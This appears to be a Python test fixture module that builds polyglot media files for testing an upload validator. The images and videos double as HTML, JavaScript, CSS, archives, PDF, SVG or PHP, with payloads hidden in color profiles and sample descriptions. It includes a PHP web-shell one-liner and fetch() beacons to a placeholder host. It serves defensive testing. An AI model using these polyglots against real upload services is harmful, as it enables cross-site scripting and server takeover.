"""Files of an allowed type that are also of another format: pages, scripts, styles, archives, documents.

Active ones fetch a URL when a browser runs them, which tests observe. Those that begin as the other format
are not of an allowed type, and must be refused.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from tests import media
from tests.corpus.refused import riff
from tests.media import Encoder, box, encoded, picture

# The length of a JPEG segment, or the width of a GIF, whose bytes begin a comment of JavaScript and CSS.
_COMMENT_BEGINS = b"/*"


@dataclass(frozen=True, slots=True)
class Active:
    """A file with `extension` that fetches the URL given to `make` if it is run as `runs_as`."""

    extension: str
    runs_as: str
    make: Callable[[str], bytes]


def page(url: str) -> bytes:
    return f"<!doctype html><html><body><script>fetch('{url}')</script></body></html>".encode()


def statement(url: str) -> bytes:
    """Return a statement for the file's beginning to label: strict mode, as in modules, allows that."""
    return f":fetch('{url}')".encode()


def rule(url: str) -> bytes:
    return f"{{}} *{{background:url('{url}')}}".encode()


def profile(size_bytes: int, *parts: bytes) -> bytes:
    """A color profile by its header, with anything in it."""
    content = b"".join(parts)
    return struct.pack(">I", size_bytes) + bytes(32) + b"acsp" + bytes(88) + content


def gif_in_a_comment(active: bytes) -> bytes:
    """A GIF of 10799 pixels in width: `GIF89a/*`, its picture, and in a color profile `*/` and the active part."""
    gif = media.gif(frames=1)
    whole = gif[:6] + _COMMENT_BEGINS + gif[8:-1]
    assert b"*/" not in whole
    block = profile(128, b"*/", active, b"//")
    return whole + b"\x21\xff\x0bICCRGBG1012" + bytes((len(block),)) + block + b"\0;"


def gif_with_profile(active: bytes) -> bytes:
    block = profile(128, active)
    gif = media.gif()
    return gif[:-1] + b"\x21\xff\x0bICCRGBG1012" + bytes((len(block),)) + block + b"\0;"


def jpeg_in_comments(active: bytes) -> bytes:
    """A JPEG whose first segment has 12074 bytes: `ÿØÿâ/*`, a profile, `*/`, the active part, and another comment.

    The rest of the profile, after the scan, ends that comment.
    """
    size = int.from_bytes(_COMMENT_BEGINS, "big") - 2
    jpeg = media.jpeg()
    first = (b"ICC_PROFILE\0\1\2" + profile(2 * size, b"*/", active)).ljust(size - 2) + _COMMENT_BEGINS
    last = b"\xff\xe2" + struct.pack(">H", 2 + 16) + b"ICC_PROFILE\0\2\2" + b"*/"
    assert b"*/" not in jpeg
    return jpeg[:2] + b"\xff\xe2" + _COMMENT_BEGINS + first + jpeg[2:-2] + last + jpeg[-2:]


def jpeg_with_profile(active: bytes) -> bytes:
    return encoded(picture(64, 48), "JPEG", icc_profile=profile(128, active))


def png_with_profile(active: bytes) -> bytes:
    """A PNG whose profile is stored uncompressed in its deflated stream."""
    data = b"a\0\0" + zlib.compress(profile(128, active), 0)
    whole = media.png()
    chunk = b"iCCP" + data
    return whole[:33] + struct.pack(">I", len(data)) + chunk + struct.pack(">I", zlib.crc32(chunk)) + whole[33:]


def webp_with_profile(active: bytes) -> bytes:
    return encoded(picture(64, 48), "WEBP", icc_profile=profile(128, active))


def in_sample_description(movie: bytes, extra: bytes) -> bytes:
    """The movie, whose index comes last, with one more box in the description of its pictures."""
    changed = bytearray(movie)
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd", b"mp4v"):
        start = movie.index(kind, movie.rindex(b"moov")) - 4
        end = start + int.from_bytes(movie[start : start + 4], "big")
        changed[start : start + 4] = struct.pack(">I", end - start + len(extra))
    return bytes(changed[:end]) + extra + bytes(changed[end:])


def png_with_text(text: bytes) -> bytes:
    chunk = b"tEXt" + b"Comment\0" + text
    whole = media.png()
    return whole[:33] + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk)) + whole[33:]


def jpeg_with_comment(text: bytes) -> bytes:
    return encoded(picture(64, 48), "JPEG", comment=text)


def webp_with_chunk(payload: bytes) -> bytes:
    chunk = b"MORE" + struct.pack("<I", len(payload)) + payload + b"\0" * (len(payload) % 2)
    return riff(b"WEBP", media.webp()[12:] + chunk)


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("META-INF/MANIFEST.MF", "Main-Class: Main\n")
    return buffer.getvalue()


# The active part is where metadata removal keeps it: in color profiles, and in sample descriptions.
ACTIVE = {
    "gif that is a script": Active("gif", "text/javascript", lambda url: gif_in_a_comment(statement(url))),
    "gif that is a style sheet": Active("gif", "text/css", lambda url: gif_in_a_comment(rule(url))),
    "gif with a page in its profile": Active("gif", "text/html", lambda url: gif_with_profile(page(url))),
    "jpeg that is a script": Active(
        "jpg", "text/javascript; charset=ISO-8859-1", lambda url: jpeg_in_comments(statement(url))
    ),
    "jpeg that is a style sheet": Active(
        "jpg", "text/css; charset=ISO-8859-1", lambda url: jpeg_in_comments(rule(url))
    ),
    "jpeg with a page in its profile": Active("jpg", "text/html", lambda url: jpeg_with_profile(page(url))),
    "png with a page in its profile": Active("png", "text/html", lambda url: png_with_profile(page(url))),
    "webp with a page in its profile": Active("webp", "text/html", lambda url: webp_with_profile(page(url))),
    "mp4 with a page in its description": Active(
        "mp4", "text/html", lambda url: in_sample_description(media.mp4(), box(b"abcd", page(url)))
    ),
    "mov with a page in its description": Active(
        "mov", "text/html", lambda url: in_sample_description(media.mov(), box(b"abcd", page(url)))
    ),
}

_URL = "https://elsewhere.example/ran"
_PHP = b"<?php system($_GET['c']); ?>"
_PHAR = b"<?php __HALT_COMPILER(); ?>\r\n" + bytes(40) + b"GBMB"
_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj trailer<</Root 1 0 R>>\n"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"

# By name: the extension and the file, which is published as the type it begins with.
PUBLISHED: dict[str, tuple[str, Encoder]] = {
    **{name: (active.extension, partial(active.make, _URL)) for name, active in ACTIVE.items()},
    "gif with a page behind it": ("gif", lambda: media.gif() + page(_URL)),
    "jpeg with a page behind it": ("jpg", lambda: media.jpeg() + page(_URL)),
    "png with a page behind it": ("png", lambda: media.png() + page(_URL)),
    "webp with a page inside": ("webp", lambda: webp_with_chunk(page(_URL))),
    "mp4 with a page inside": ("mp4", lambda: media.mp4() + box(b"free", page(_URL))),
    "mov with a page inside": ("mov", lambda: media.mov() + box(b"skip", page(_URL))),
    "jpeg and zip": ("jpg", lambda: media.jpeg() + archive()),
    "jpeg and jar in a comment": ("jpg", lambda: jpeg_with_comment(archive())),
    "png and zip": ("png", lambda: media.png() + archive()),
    "gif and zip": ("gif", lambda: media.gif() + archive()),
    "webp and zip": ("webp", lambda: media.webp() + archive()),
    "mp4 and zip": ("mp4", lambda: media.mp4() + archive()),
    "mov and zip": ("mov", lambda: media.mov() + archive()),
    "gif and rar": ("gif", lambda: media.gif() + b"Rar!\x1a\x07\x01\0" + bytes(40)),
    "jpeg and 7z": ("jpg", lambda: media.jpeg() + b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40)),
    "png and an executable": ("png", lambda: media.png() + b"\x7fELF\2\1\1" + bytes(60)),
    "jpeg and pdf in a comment": ("jpg", lambda: jpeg_with_comment(_PDF)),
    "jpeg and pdf inside": ("jpg", lambda: jpeg_in_comments(_PDF)),
    "jpeg and pdf behind it": ("jpg", lambda: media.jpeg() + _PDF),
    "png and pdf": ("png", lambda: media.png() + _PDF),
    "mp4 and pdf": ("mp4", lambda: box(b"free", _PDF) + media.mp4()),
    "gif and php": ("gif", lambda: encoded(picture(64, 48, "P"), "GIF", comment=_PHP)),
    "png and php": ("png", lambda: png_with_text(_PHP)),
    "jpeg and php": ("jpg", lambda: jpeg_with_comment(_PHP)),
    "jpeg and phar in a comment": ("jpg", lambda: jpeg_with_comment(_PHAR)),
    "gif and phar": ("gif", lambda: media.gif() + _PHAR),
    "png and phar": ("png", lambda: media.png() + _PHAR),
    "webp and phar": ("webp", lambda: webp_with_chunk(_PHAR)),
    "jpeg and svg": ("jpg", lambda: media.jpeg() + _SVG),
    "png and svg": ("png", lambda: png_with_text(_SVG)),
    "mp4 and svg": ("mp4", lambda: media.mp4() + box(b"free", _SVG)),
    "jpeg and mp4": ("jpg", lambda: media.jpeg() + media.mp4()),
    "mp4 and jpeg": ("mp4", lambda: media.mp4() + box(b"skip", media.jpeg())),
    "png and gif": ("png", lambda: media.png() + media.gif()),
    "gif and mp4": ("gif", lambda: media.gif() + media.mp4()),
    "webp and wasm": ("webp", lambda: webp_with_chunk(b"\0asm\1\0\0\0")),
    "mp4 and webm": ("mp4", lambda: media.mp4() + box(b"free", b"\x1a\x45\xdf\xa3" + bytes(40))),
}

# Files that begin as something else.
REFUSED: dict[str, tuple[str, Encoder]] = {
    "zip then png": ("png", lambda: archive() + media.png()),
    "zip then jpeg": ("jpg", lambda: archive() + media.jpeg()),
    "page then jpeg": ("jpg", lambda: page(_URL) + media.jpeg()),
    "page then mp4": ("mp4", lambda: page(_URL) + media.mp4()),
    "script then gif": ("gif", lambda: b"alert(1)//" + media.gif()),
    "line feed then gif": ("gif", lambda: b"\n" + media.gif()),
    "byte order mark then png": ("png", lambda: b"\xef\xbb\xbf" + media.png()),
    "pdf then jpeg": ("jpg", lambda: _PDF + media.jpeg()),
    "pdf then png": ("png", lambda: _PDF + media.png()),
    "svg then png": ("png", lambda: _SVG + media.png()),
    "php then jpeg": ("jpg", lambda: _PHP + media.jpeg()),
    "phar then gif": ("gif", lambda: _PHAR + media.gif()),
    "executable then jpeg": ("jpg", lambda: b"MZ" + bytes(62) + media.jpeg()),
    "shell script then gif": ("gif", lambda: b"#!/bin/sh\n" + media.gif()),
    "rar then gif": ("gif", lambda: b"Rar!\x1a\x07\x01\0" + media.gif()),
    "wasm then webp": ("webp", lambda: b"\0asm\1\0\0\0" + media.webp()),
    # `RIFF=1/*WEBP`: the size field makes it a script, and cannot be a file's size.
    "script that begins like a webp": ("webp", lambda: b"RIFF=1/*" + media.webp()[8:] + b"*/;alert(1)"),
    "script that begins like a gif": ("gif", lambda: b"GIF89a=1;/*" + bytes(60) + b"*/alert(1)"),
    "page in a ftyp": ("mp4", lambda: box(b"ftyp", b"isom" + page(_URL)) + b"\0\0\0"),
}
